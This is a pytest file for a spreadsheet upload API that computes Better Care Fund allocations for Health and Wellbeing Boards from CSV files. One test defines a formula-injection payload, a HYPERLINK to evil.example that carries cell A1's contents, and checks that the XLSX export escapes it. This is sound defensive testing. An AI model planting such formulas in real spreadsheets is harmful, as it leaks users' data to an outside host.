"""The spreadsheet endpoints: templates, and the CSV upload through the one determination code path."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from sheets.payloads import CONDITIONS_COLUMNS, METRICS_COLUMNS, POOLS_COLUMNS, build_requests
from sheets.writing import RESULT_COLUMNS, XLSX_MIME

ROOT = Path(__file__).resolve().parents[2]
PROBLEM = "application/problem+json"
HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Falls\")"


def templates(client):
    return {name: client.get(f"/api/v1/templates/{name}.csv").data
            for name in ("metrics", "conditions", "pools")}


def upload(client, files, accept=None):
    data = {name: (io.BytesIO(content), f"{name}.csv")
            for name, content in files.items() if content is not None}
    headers = {"Accept": accept} if accept else {}
    return client.post("/api/v1/calculations/csv", data=data, content_type="multipart/form-data",
                       headers=headers)


def csv_rows(response):
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize(("name", "columns"), [
    ("metrics", METRICS_COLUMNS), ("conditions", CONDITIONS_COLUMNS), ("pools", POOLS_COLUMNS)])
def test_templates_have_the_header_and_a_worked_example(client, name, columns):
    response = client.get(f"/api/v1/templates/{name}.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert f'filename="{name}.csv"' in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert tuple(rows[0]) == columns
    assert {row[0] for row in rows[1:]} == {"E06000001", "E08000021"}


def test_metrics_template_covers_every_metric_period_and_condition(client):
    text = client.get("/api/v1/templates/metrics.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    for code in ("E06000001", "E08000021"):
        mine = [(r["metric"], r["period"]) for r in rows if r["hwb_code"] == code]
        # rules §4: the nine metric-periods of 2015/16
        assert sorted(mine) == sorted([
            ("delayed_transfers", "april-2015"), ("avoidable_emergency_admissions", "april-2015"),
            ("local", "april-2015"), ("residential_admissions", "october-2015"),
            ("reablement", "october-2015"),
            ("delayed_transfers", "october-2015"), ("avoidable_emergency_admissions", "october-2015"),
            ("patient_experience", "october-2015"), ("local", "october-2015")])
    assert any(r["local_metric"] for r in rows) and any(r["definition_name"] for r in rows)
    conditions = client.get("/api/v1/templates/conditions.csv").get_data(as_text=True)
    for condition in ("plans_jointly_agreed", "protect_social_care", "seven_day_services", "data_sharing",
                      "joint_assessment", "acute_sector_impact"):
        assert conditions.count(f",{condition},") >= 2


def test_unknown_template_is_404_problem(client):
    response = client.get("/api/v1/templates/plans.csv")
    assert response.status_code == 404 and response.content_type == PROBLEM


def test_template_round_trip_computes_with_no_problem_or_warning(client):
    files = templates(client)
    response = upload(client, files)
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    rows = csv_rows(response)
    assert tuple(rows[0]) == RESULT_COLUMNS
    assert [(r["hwb_code"], r["tranche"]) for r in rows] == [
        (code, tranche) for code in ("E06000001", "E08000021")
        for tranche in ("april-2015/conditions", "april-2015/metrics", "october-2015/metrics")]
    assert rows[0]["hwb_name"] == "Hartlepool" and rows[3]["hwb_name"] == "Newcastle upon Tyne"
    # rules §2 and §8: 25%, 25% and 50% of the pool in pools.csv (£2,200,000.00 and £5,530,000.00)
    assert [r["available"] for r in rows] == ["550000.00", "550000.00", "1100000.00",
                                              "1382500.00", "1382500.00", "2765000.00"]
    for r in rows:
        assert Decimal(r["released"]) + Decimal(r["held_back"]) == Decimal(r["available"])
        assert r["plan_assured"] == "TRUE"  # every access condition's evidence is in the template
    body = upload(client, files, "application/json").get_json()
    assert [d["warnings"] for d in body] == [[], []]
    assert all(c["status"] == "met" for d in body for c in d["conditions"])


def test_json_results_are_exactly_the_json_endpoint_answers(app, client):
    files = templates(client)
    body = upload(client, files, "application/json").get_json()
    requests, problems = build_requests(files, app.extensions["boards"])
    assert problems == []
    direct = [client.post("/api/v1/calculations", json=r.payload).get_json() for r in requests]
    assert body == direct


def test_a_152_board_file(client):
    """Every board in reference_data/boards.csv, with the template's first board's figures."""
    boards = list(csv.DictReader(io.StringIO((ROOT / "reference_data" / "boards.csv").read_text())))
    codes = [row["ons_code"] for row in boards]
    assert len(codes) == 152
    metrics = client.get("/api/v1/templates/metrics.csv").get_data(as_text=True).splitlines()
    example = [line for line in metrics[1:] if line.startswith("E06000001,")]
    rows = [metrics[0]] + [line.replace("E06000001", code, 1) for code in codes for line in example]
    pools = ["hwb_code,p4p_pool"] + [f"{code},{1_000_000 + i * 1000}.00" for i, code in enumerate(codes)]
    response = upload(client, {"metrics": "\r\n".join(rows).encode(), "pools": "\n".join(pools).encode()})
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    result = csv_rows(response)
    assert len(result) == 152 * 3
    assert [r["hwb_code"] for r in result[::3]] == codes
    names = {row["ons_code"]: row["name"] for row in boards}
    assert all(r["hwb_name"] == names[r["hwb_code"]] for r in result)
    # no conditions sent: the conditions tranche is not assessed and access is not checked (api.md)
    assert {r["plan_assured"] for r in result} == {""}
    last = [r for r in result if r["hwb_code"] == codes[-1]]
    assert last[2]["available"] == f"{Decimal(1_000_000 + 151 * 1000) / 2:.2f}"


def test_excel_style_cp1252_and_bom_files(client):
    files = templates(client)
    # Windows "CSV (Comma delimited)": cp1252, CRLF, a £ and curly quotes, stray spaces, trailing blank rows
    conditions = files["conditions"].decode().replace(
        "Protection means maintaining", "“Protection” – for £ spent – means maintaining")
    conditions = "\r\n".join(line if '"' in line else " " + line.replace(",", " , ")
                             for line in conditions.splitlines()) + "\r\n,,,\r\n,,,\r\n"
    # "CSV UTF-8": BOM, CRLF, thousands separators in quoted numbers
    metrics = files["metrics"].decode().replace("3100,72000", '"3,100","72,000"')
    pools = "hwb_code,p4p_pool\r\nE06000001,\"£2,200,000.00\"\r\nE08000021,\"5,530,000\"\r\n"
    response = upload(client, {"metrics": b"\xef\xbb\xbf" + metrics.replace("\n", "\r\n").encode(),
                               "conditions": conditions.encode("cp1252"),
                               "pools": pools.encode("cp1252")}, "application/json")
    assert response.status_code == 200, response.get_data(as_text=True)
    original = upload(client, files, "application/json").get_json()
    assert response.get_json() == original  # the same figures as the plain files


def problems_of(response):
    assert response.status_code == 422, response.get_data(as_text=True)
    assert response.content_type == PROBLEM
    body = response.get_json()
    assert body["status"] == 422 and "nothing was computed" in body["detail"]
    assert body["type"] == "/api/v1/problems/invalid-input"  # as the JSON calculator's invalid input
    return {e["location"]: e["message"] for e in body["errors"]}


def test_every_problem_of_every_kind_at_once(client):
    files = templates(client)
    metrics = files["metrics"].decode().splitlines()
    metrics[1] = metrics[1].replace(",440,", ",TBC,")                                     # row 2: plan
    metrics[2] = metrics[2].replace("avoidable_emergency_admissions", "emergency_admissions")  # row 3: metric
    metrics[4] = metrics[4].replace("october-2015", "april-2015")                          # row 5: period
    metrics[12] = metrics[12].replace("ASCOF-1A", "ASCOF-9Z")                              # row 13 and 19
    metrics[18] = metrics[18].replace("ASCOF-1A", "ASCOF-9Z")
    metrics.append(metrics[10])                                                            # row 20: duplicate
    metrics.append(metrics[10].replace("E08000021", "E09999999"))                          # row 21: board
    conditions = files["conditions"].decode() + "E06000001,data_sharing,open_api,TRUE\n"   # row 32: field
    response = upload(client, {"metrics": "\n".join(metrics).encode(), "conditions": conditions.encode(),
                               "pools": files["pools"]})
    found = problems_of(response)
    assert found["metrics.csv row 2, column plan"] == "plan must be a number; got 'TBC'"
    assert found["metrics.csv row 20, column period"] == \
        "duplicate row: E08000021 delayed_transfers april-2015 is also given in row 11"
    assert "unknown board code 'E09999999'" in found["metrics.csv row 21, column hwb_code"]
    assert "data_sharing has no field 'open_api'" in found["conditions.csv row 32, column field"]
    # in the same answer, the domain's JSON-path problems mapped back to the cells
    assert found["metrics.csv row 3, column metric"].startswith("unknown metric 'emergency_admissions'")
    assert "residential_admissions for october-2015 only" in found["metrics.csv row 5, column period"]
    assert "not in the local menu" in found["metrics.csv row 13, column local_metric"]
    assert len(found) == 7


def test_a_bad_cell_is_reported_once_and_the_other_cells_of_its_row_still_checked(client):
    """A cell that could not be read was sent empty; what the domain says about it would only echo the
    cell problem (a missing plan), so it is not reported twice, but the domain's problem with another
    cell of the row (the period) is reported in the same answer."""
    files = templates(client)
    metrics = files["metrics"].decode().splitlines()
    metrics[4] = metrics[4].replace("october-2015", "april-2015").replace(",940,", ",TBC,")  # row 5
    pools = "hwb_code,p4p_pool\nE06000001,lots\nE08000021,5530000\n"
    found = problems_of(upload(client, {"metrics": "\n".join(metrics).encode(), "pools": pools.encode()}))
    assert found == {"metrics.csv row 5, column plan": "plan must be a number; got 'TBC'",
                     "metrics.csv row 5, column period":
                         "period: rule set bcf-2015-16 measures residential_admissions for october-2015 only",
                     "pools.csv row 2, column p4p_pool": "p4p_pool must be a number; got 'lots'"}


def test_missing_metrics_file_and_a_workbook_instead_of_csv(client):
    found = problems_of(upload(client, {"conditions": b"PK\x03\x04not really", "pools": None}))
    assert found["metrics.csv"] == "this file is required (upload it as the 'metrics' field)"
    assert "an Excel workbook (.xlsx)" in found["conditions.csv"]


def test_file_sent_as_a_plain_form_field_is_read(client):
    files = templates(client)
    response = client.post("/api/v1/calculations/csv", data={name: content.decode() for name, content in
                                                             files.items()})
    assert response.status_code == 200
    assert len(csv_rows(response)) == 6


def test_upload_over_the_size_limit_is_413_problem(tmp_path):
    from api import create_app

    app = create_app({"TESTING": True, "CSV_UPLOAD_MAX_BYTES": 2048,
                      "ALLOCATIONS_FILE": str(tmp_path / "allocations.csv")})
    client = app.test_client()
    files = templates(client)
    files["metrics"] += b"\n" * 4096
    response = upload(client, files)
    assert response.status_code == 413 and response.content_type == PROBLEM
    assert "larger than the limit" in response.get_json()["detail"]


def test_default_size_limit_is_ten_megabytes(app, client):
    assert app.config["CSV_UPLOAD_MAX_BYTES"] == 10 * 1024 * 1024
    body = (b'--b\r\nContent-Disposition: form-data; name="metrics"; filename="metrics.csv"\r\n\r\n'
            + b"hwb_code,metric,period,plan\n" + b" " * (10 * 1024 * 1024) + b"\r\n--b--\r\n")
    response = client.post("/api/v1/calculations/csv", data=body,
                           content_type="multipart/form-data; boundary=b")
    assert response.status_code == 413 and response.content_type == PROBLEM


@pytest.mark.parametrize(("accept", "mimetype"), [
    (None, "text/csv"), ("*/*", "text/csv"), ("text/csv", "text/csv"),
    ("application/json", "application/json"),
    (XLSX_MIME, XLSX_MIME), ("text/html,application/xhtml+xml,*/*;q=0.8", "text/csv"),
])
def test_answer_by_accept(client, accept, mimetype):
    response = upload(client, templates(client), accept)
    assert response.status_code == 200 and response.mimetype == mimetype


def test_unacceptable_type_is_406(client):
    response = upload(client, templates(client), "image/png")
    assert response.status_code == 406 and response.content_type == PROBLEM


def sheet_rows(sheet):
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)]


def test_xlsx_of_the_template(client):
    response = upload(client, templates(client), XLSX_MIME)
    book = openpyxl.load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Totals", "Tranches", "Lines", "Metrics", "Conditions", "Warnings"]
    tranches = book["Tranches"]
    assert tranches.freeze_panes == "C2" and tranches.max_row == 7
    assert tranches["F2"].value == 550000 and tranches["F2"].data_type == "n"
    assert "£" in tranches["F2"].number_format
    assert [c.value for c in tranches["A2":"D2"][0]] == ["E06000001", "Hartlepool", "North East",
                                                         "North of England"]
    metrics = book["Metrics"]
    assert metrics.max_row == 1 + 2 * 9
    first = sheet_rows(metrics)[0]
    assert first["Metric"] == "delayed_transfers" and first["Period"] == "april-2015"
    assert isinstance(first["Baseline"], float) and first["Baseline, lower 95% limit"] < first["Baseline"]
    assert first["Released"] + first["Held back"] == pytest.approx(first["Available"])
    conditions = book["Conditions"]
    assert conditions.max_row == 1 + 2 * 6
    # the lines add up to their tranches, and the tranches to the board's totals
    lines, totals = sheet_rows(book["Lines"]), sheet_rows(book["Totals"])
    for tranche in sheet_rows(tranches):
        mine = [line for line in lines if (line["HWB code"], line["Tranche"]) == (tranche["HWB code"],
                                                                                 tranche["Tranche"])]
        assert mine and sum(line["Available"] for line in mine) == pytest.approx(tranche["Available"])
        assert all(line["Explanation"] for line in mine)
    assert [t["HWB code"] for t in totals] == ["E06000001", "E08000021"]
    assert totals[0]["Available"] == pytest.approx(sum(t["Available"] for t in sheet_rows(tranches)[:3]))


@pytest.mark.parametrize("table", ["lines", "totals"])
def test_csv_tables_by_query(client, table):
    """?table=lines|totals: the same figures as the JSON answer, laid out one row per line or board."""
    files = templates(client)
    determinations = upload(client, files, "application/json").get_json()
    data = {name: (io.BytesIO(content), f"{name}.csv") for name, content in files.items()}
    response = client.post(f"/api/v1/calculations/csv?table={table}", data=data,
                           content_type="multipart/form-data")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = csv_rows(response)
    if table == "lines":
        expected = [(d["hwb_code"], t["tranche"], line["item"], f"{Decimal(str(line['available'])):.2f}",
                     line["explanation"])
                    for d in determinations for t in d["tranches"] for line in t["lines"]]
        assert [(r["hwb_code"], r["tranche"], r["item"], r["available"], r["explanation"]) for r in rows] \
            == expected
        assert {r["kind"] for r in rows} == {"metric", "condition"}
    else:
        assert [(r["hwb_code"], r["available"], r["released"]) for r in rows] == [
            (d["hwb_code"], f"{Decimal(str(d['totals']['available'])):.2f}",
             f"{Decimal(str(d['totals']['released'])):.2f}") for d in determinations]


def test_an_unknown_table_is_422_naming_the_choices(client):
    data = {name: (io.BytesIO(content), f"{name}.csv") for name, content in templates(client).items()}
    response = client.post("/api/v1/calculations/csv?table=everything", data=data,
                           content_type="multipart/form-data")
    assert response.status_code == 422 and response.content_type == PROBLEM
    [entry] = response.get_json()["errors"]
    assert entry["location"] == "table" and "tranches, lines, totals" in entry["message"]


def test_empty_optional_parts_are_as_if_not_sent(client):
    """The docs page sends every part of the form; an empty optional part is no file, not an empty one."""
    files = templates(client)
    response = upload(client, {"metrics": files["metrics"], "conditions": b"", "pools": files["pools"]},
                      "application/json")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert {d["plan_assured"] for d in response.get_json()} == {None}  # no conditions: not checked
    plain = client.post("/api/v1/calculations/csv", data={"metrics": files["metrics"].decode(),
                                                          "conditions": "", "pools": files["pools"].decode()})
    assert plain.status_code == 200
    empty_metrics = problems_of(upload(client, {"metrics": b"", "pools": files["pools"]}))
    assert empty_metrics == {"metrics.csv": "the file is empty; it needs a header row and data rows"}


def test_a_million_row_upload_is_answered_with_one_problem(client, tmp_path):
    """Issue 15 (8): a 1 M-row file (5 MB, under the size limit) is refused at the row limit, quickly,
    with one clear problem, instead of five million."""
    path = tmp_path / "metrics.csv"
    path.write_bytes(b"hwb_code,metric,period,plan\n" + b",,,x\n" * 1_000_000)
    # the body by hand: the test client's own encoder spools 5 MB to a temporary file it never closes
    body = (b'--b\r\nContent-Disposition: form-data; name="metrics"; filename="metrics.csv"\r\n\r\n'
            + path.read_bytes() + b"\r\n--b--\r\n")
    response = client.post("/api/v1/calculations/csv", data=body,
                           content_type="multipart/form-data; boundary=b")
    assert response.status_code == 422 and response.content_type == PROBLEM
    assert response.get_json()["errors"] == [{"location": "metrics.csv", "message": (
        "the file has more than 20,000 data rows, the most one upload may have; split the boards over "
        "several uploads")}]


def test_many_bad_rows_are_capped_in_the_answer(client):
    rows = "".join(f"E06000001,delayed_transfers,p{i},x\n" for i in range(3000))
    response = upload(client, {"metrics": ("hwb_code,metric,period,plan\n" + rows).encode()})
    body = response.get_json()
    assert response.status_code == 422
    assert len(body["errors"]) == 1001 and body["problem_count"] > 3000
    assert body["errors"][-1] == {"location": "$", "message": f"… and {body['problem_count'] - 1000} more "
                                                              "problems."}
    assert body["detail"].startswith(f"The upload has {body['problem_count']:,} problems;")


def test_the_xlsx_answer_has_an_example_and_the_table_parameter_is_documented(client):
    operation = client.get("/api/v1/openapi.json").get_json()["paths"]["/api/v1/calculations/csv"]["post"]
    content = operation["responses"]["200"]["content"]
    assert content["text/csv"]["example"].startswith(",".join(RESULT_COLUMNS) + "\r\n")
    [example] = content[XLSX_MIME]["examples"].values()
    assert "**Lines** (HWB code, Health and Wellbeing Board, Tranche," in example["description"]
    workbook = client.get(example["externalValue"])
    assert workbook.status_code == 200 and workbook.mimetype == XLSX_MIME
    example_book = openpyxl.load_workbook(io.BytesIO(workbook.data))
    uploaded_book = openpyxl.load_workbook(io.BytesIO(upload(client, templates(client), XLSX_MIME).data))
    assert example_book.sheetnames == uploaded_book.sheetnames
    assert all(sheet_rows(example_book[name]) == sheet_rows(uploaded_book[name])
               for name in example_book.sheetnames)
    [table] = [p for p in operation["parameters"] if p["name"] == "table"]
    assert table["in"] == "query" and table["schema"]["enum"] == ["tranches", "lines", "totals"]
    assert "20,000 data rows" in operation["description"]


def test_injection_in_a_local_alternatives_name(client):
    files = templates(client)
    text = files["metrics"].decode().replace(",local,PHOF-2.24i,april-2015,", ",local,,april-2015,")
    text = text.replace(",local,PHOF-2.24i,october-2015,", ",local,,october-2015,")
    lines = text.splitlines()
    definition = f'"{HOSTILE.replace(chr(34), chr(34) * 2)}",rate,lower,per 100000,HES,JHWS falls priority'
    lines = [line[:-len(",,,,,")] + definition if ",local,,april-2015," in line else line for line in lines]
    files["metrics"] = "\n".join(lines).encode()
    response = upload(client, files, XLSX_MIME)
    assert response.status_code == 200, response.get_data(as_text=True)
    lines_sheet = openpyxl.load_workbook(io.BytesIO(response.data))["Metrics"]
    header = [c.value for c in lines_sheet[1]]
    names = [row[header.index("Name")] for row in lines_sheet.iter_rows(min_row=2, values_only=True)
             if row[0] == "E06000001" and row[header.index("Metric")] == "local"]
    assert names == ["'" + HOSTILE, "'" + HOSTILE]
    body = upload(client, files, "application/json").get_json()
    # JSON is data, not a spreadsheet: the name comes back as typed
    assert {m["name"] for m in body[0]["metrics"] if m["metric"] == "local"} == {HOSTILE}


def test_openapi_documents_the_upload(client):
    paths = client.get("/api/v1/openapi.json").get_json()["paths"]
    assert "multipart/form-data" in paths["/api/v1/calculations/csv"]["post"]["requestBody"]["content"]
    assert "/api/v1/templates/{name}.csv" in paths


def test_152_different_boards_computed_together_are_each_as_computed_alone(app, client):
    """The upload determines its boards together (one metrics/ call per statistic type for them all);
    each board must still get exactly the JSON calculator's answer for it alone. Every board's counts
    differ, so that no two boards share a figure."""
    boards = list(csv.DictReader(io.StringIO((ROOT / "reference_data" / "boards.csv").read_text())))
    files = templates(client)
    header, *rows = files["metrics"].decode().splitlines()
    example = [row.split(",") for row in rows if row.startswith("E06000001,")]
    numeric = [METRICS_COLUMNS.index(c) for c in ("baseline_numerator", "actual_numerator")]
    metrics, pools = [header], ["hwb_code,p4p_pool"]
    for i, board in enumerate(boards):
        for cells in example:
            cells = [board["ons_code"], *cells[1:]]
            for column in numeric:
                if cells[column]:  # small counts (proportions) must stay below their denominators
                    count = int(cells[column])
                    cells[column] = str(count + (i if count >= 1000 else i % 50 - 25))
            metrics.append(",".join(cells))
        pools.append(f"{board['ons_code']},{1_000_000 + 137 * i}.{i % 100:02d}")
    files["metrics"], files["pools"] = "\r\n".join(metrics).encode(), "\n".join(pools).encode()
    files["conditions"] = None
    response = upload(client, files, "application/json")
    assert response.status_code == 200, response.get_data(as_text=True)[:2000]
    together = response.get_json()
    requests, problems = build_requests(files, app.extensions["boards"])
    assert problems == [] and len(requests) == 152
    alone = [client.post("/api/v1/calculations", json=r.payload).get_json() for r in requests]
    assert together == alone
    assert len({d["metrics"][0]["baseline"]["value"] for d in together}) == 152  # the boards do differ


def test_a_row_with_an_unreadable_cell_still_has_its_other_cells_checked(client):
    """Row 2 (delayed_transfers, april-2015): every cell's problem in one answer, the calculator's range
    checks mapped back to their cells, each problem once."""
    files = templates(client)
    metrics = files["metrics"].decode().splitlines()
    assert metrics[1].startswith("E06000001,delayed_transfers,,april-2015,3100,72000,,,,440,2890,")
    metrics[1] = metrics[1].replace(",3100,", ",abc,").replace(",440,", ",-5,").replace(",2890,", ",-5,")
    found = problems_of(upload(client, {**files, "metrics": "\n".join(metrics).encode()}))
    assert found == {
        "metrics.csv row 2, column baseline_numerator": "baseline_numerator must be a number; got 'abc'",
        "metrics.csv row 2, column actual_numerator":  # the schema's minimum
            "actual_numerator: Must be at least 0 and at most 1,000,000,000,000.",
        "metrics.csv row 2, column plan": "plan must be at least 0",  # check_plan: a rate is not negative
    }


def test_a_missing_baseline_is_reported_once_at_its_cell_beside_the_rows_other_problems(client):
    files = templates(client)
    metrics = files["metrics"].decode().splitlines()
    metrics[1] = metrics[1].replace(",3100,72000,", ",,,").replace(",440,", ",-5,")  # row 2
    found = problems_of(upload(client, {**files, "metrics": "\n".join(metrics).encode()}))
    assert found == {
        "metrics.csv row 2, column baseline_numerator":
            "the baseline is missing: give baseline_numerator and baseline_denominator (or baseline_value)",
        "metrics.csv row 2, column plan": "plan must be at least 0",
    }


def test_the_readme_states_the_limits_the_code_has():
    from bcf.allocation_files import MAX_ROWS as TABLE_ROWS
    from bcf.errors import MAX_PROBLEMS
    from sheets.reading import MAX_ROWS

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert f"`sheets.reading.MAX_ROWS`; 152 boards × 9 metric-periods is 1,368) | {MAX_ROWS:,} |" in readme
    assert f"`bcf.allocation_files.MAX_ROWS`; 211 CCGs × 152 boards is 32,072) | {TABLE_ROWS:,} |" in readme
    assert f"(`bcf.errors.MAX_PROBLEMS`) | {MAX_PROBLEMS:,} |" in readme
